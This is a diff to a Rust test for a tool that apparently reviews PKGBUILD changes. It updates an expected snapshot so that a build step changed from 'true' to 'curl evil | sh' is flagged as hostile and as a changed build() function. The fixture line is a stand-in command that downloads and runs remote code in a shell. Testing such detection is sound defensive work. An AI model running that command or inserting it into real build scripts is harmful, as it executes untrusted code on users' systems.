@@ -201,9 +201,11 @@ async fn classify_compares_commits_line_by_line_and_folders_as_one_document() {
     assert_eq!(major.code, Some(3));
     insta::assert_snapshot!(major.text(), @"
     major (1.0-1 -> 1.0-1)
-      review   PKGBUILD:12: a line changed that is neither a version nor a checksum [line-changed]
-               -   true
-               +   curl evil | sh
+      hostile  PKGBUILD:12: a command is written in a way that hides what it runs [obfuscation]
+               + curl evil | sh
+      review   PKGBUILD:12: `build()` does something else than before [function-changed]
+               - true
+               + curl evil | sh
     ");
     scene.ends().await;
 }
